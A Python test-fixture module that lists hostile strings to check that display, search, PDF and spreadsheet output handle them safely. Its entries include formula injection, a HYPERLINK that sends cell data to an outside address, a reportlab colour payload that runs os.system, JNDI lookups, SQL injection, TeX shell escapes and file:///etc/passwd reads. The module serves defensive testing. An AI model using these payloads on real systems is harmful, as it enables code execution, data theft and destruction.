"""Texts that broke, or could break, what shows, prints, searches or exports them; one set for every sink.

Each must come out letter for letter, or after the cleaning the sink documents.
"""

from stationdesk.core.characters import storable

RARE = "𠮷𡘙㛃䶮㙍垚𬭎𠅤"
"""Hanzi of people's names that many typefaces lack."""

FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1+1",
    "－1+1", "＠SUM(1)", '=HYPERLINK("http://192.0.2.1/?x="&A1,"点此")', "{=1+1}",
)  # fmt: skip
"""What a spreadsheet would take for something to work out."""

HOSTILE: dict[str, str] = {
    # Markup of Qt's labels, tool tips and buttons
    "qt document": '<html><body bgcolor="red"><h1>报警</h1></body></html>',
    "qt table": '<table bgcolor="red"><tr><td width=400>x</td></tr></table>',
    "qt pre": "<qt><pre>不是代码</pre></qt>",
    "qt nobr": "<nobr>不换行</nobr>",
    "qt link": '<a href="https://192.0.2.1/"><img src=":/qt-project.org/styles/images/up-32.png">',
    "markdown": "# 标题\n![图](file:///etc/passwd) **粗** [链接](http://192.0.2.1/) `码`\n| a |\n|---|",
    "mnemonics": "&A甲&&乙 &_丙 &",
    "places of translations": "%1 %2 %L3 %n %% {x} {0} {station} {{y}}",
    "accelerator tab": "打开\tCtrl+O",
    "one letter tag": "<b>",
    "only a tag": "<img src='x'>",
    # Languages of searches
    "like wildcards": "100%_[a-z]*?\\%\\_",
    "full text search": 'NEAR("东" 市) OR -村* ^警 col:值 AND NOT',
    "sql union": "' UNION SELECT password FROM account --",
    "sql comment": "/* 甲 */ ; -- 乙 \\'",
    "regular expression": "(a+)+$ [^x] (?=.*)\\d{1000}",
    # Markup of reportlab's paragraphs, HTML and XML
    "local image": '<img src="file:///etc/passwd" width="100" height="100"/>',
    "windows image": r'<img src="C:\Windows\Web\Screen\img100.jpg"/>',
    "network image": '<img src="http://127.0.0.1:9/a.png"/>',
    "share image": r'<img src="\\127.0.0.1\c$\a.png"/>',
    "file link": '<a href="file:///etc/passwd">点我</a>',
    "script link": '<link href="javascript:app.alert(1)">x</link>',
    "bold": "<b>不是粗体</b>",
    "unclosed": "<b><i><u>没有关上",
    "closed too often": "</para></b></font>",
    "no size": '<font size="0">看不见</font>',
    "white letters": '<font color="white">看不见</font>',
    "colour that runs code": (
        "<para><font color=\"[[[getattr(pow,Word('__globals__'))['os'].system('touch /tmp/hit') "
        "for Word in [1]]]] and 'red'\">x</font></para>"
    ),
    "sequence": '前<seq id="a"/>后',
    "comment": "前<!-- 吞掉 -->后",
    "cdata": "前<![CDATA[ 吞掉 ]]>后",
    "processing instruction": "<?xml version='1.0'?><?php echo 1 ?>",
    "entity bomb": '<!DOCTYPE a [<!ENTITY b "&b;&b;">]>&b;',
    "entities": "&lt;&gt;&amp;&quot;&nbsp;&#0;&#x110000;&#xD800;&unknown;",
    "ampersands": "A&B && C&",
    "break": "一<br/>二<br>三",
    "page break": "<pageBreak/><onDraw name='x' label='y'/>",
    "index": '<index item="a" offset="1"/><bullet>•</bullet>',
    "script": "<script>alert('警')</script>",
    "style": "<style>*{display:none}</style>",
    "svg": "<svg onload=alert(1)><foreignObject/></svg>",
    "many less-than signs": "<" * 4000,
    "many tags": "<b>" * 2000,
    "many breaks as tags": "<br/>" * 1000,
    # The language of PDF itself
    "end of string": ") Tj ET Q q 1 0 0 RG 0 0 600 800 re f (",
    "unbalanced": "((((\\(\\\\)",
    "hex string": "<feff0041> Tj",
    "end of stream": "endstream endobj 1 0 obj << /Type /Catalog >> trailer",
    "action": "<< /S /JavaScript /JS (app.alert(1)) >>",
    "octal": "\\101\\102\\r\\n\\)",
    # Other interpreters
    "python": "__import__('os').system('touch /tmp/hit') {0.__class__} %(x)s %n %d",
    "template": "{{7*7}} ${jndi:ldap://127.0.0.1/a} #{1+1} <%= 1 %>",
    "formula": "=cmd|' /C calc'!A0",
    "sql": "'; DROP TABLE incident; --",
    "tex": "\\input{/etc/passwd} \\write18{ls}",
    "postscript": "%!PS (x) run /x { } def showpage",
    "terminal": "\x1b[31m红\x1b[0m\x07\x08",
    # Characters
    "nul": "前\x00后",
    "all controls": "".join(map(chr, range(32))) + "\x7f" + "".join(map(chr, range(0x80, 0xA0))),
    "direction": "\u202e反\u202d转\u2066文\u2069字\u200f\u061c",
    "invisible": "零\u200b宽\u200d连\u2060接\ufeff\u00ad",
    "lone surrogates": "前\ud800中\udfff后",
    "non-characters": "前\ufffe\uffff\ufdd0\U0001ffff后",
    "private use": "前\ue000\uf8ff\U000f0000后",
    "rare hanzi": RARE,
    "variation": "葛\U000e0100城 ☎\ufe0f",
    "emoji": "报警👮‍♂️🚓🔥",
    "combining": "e\u0301 Z\u0351\u0352\u0353\u0354a\u0322lgo",
    "other scripts": "ދިވެހި עברית العربية ไทย 한국어 ᠮᠣᠩᠭᠣᠯ བོད་སྐད།",
    "radicals": "⼈人⻘青",
    "spaces": "a\u00a0b\u2003c\u3000d\te",
    "line ends": "一\r\n二\r三\u2028四\u2029五\x85六\x0b七\x0c八\n\n九",
    "many lines": "行\n" * 300,
    "long word": "W" * 3000,
    "only marks": "，。）】》" * 40,
    "opening marks": "（《【“" * 40,
    "dashes": "—" * 90 + "…" * 90,
    "boxes": "☐立即改正 ☑于2026年12月1日前改正 ☒",
    "signs": "〔2026〕①②⑩ × ± ％ ‰ ↑↓→ ℃ № ㎡ ¥￥ ≥≤ — ～",
    "lost": "\ufffd",
}

HOSTILE |= {f"formula {number}": text for number, text in enumerate(FORMULAS)}


def kept(text: str, most: int) -> str:
    """What a record keeps of a text that was typed into a field with room for `most` characters."""
    return storable(text[:most].strip())
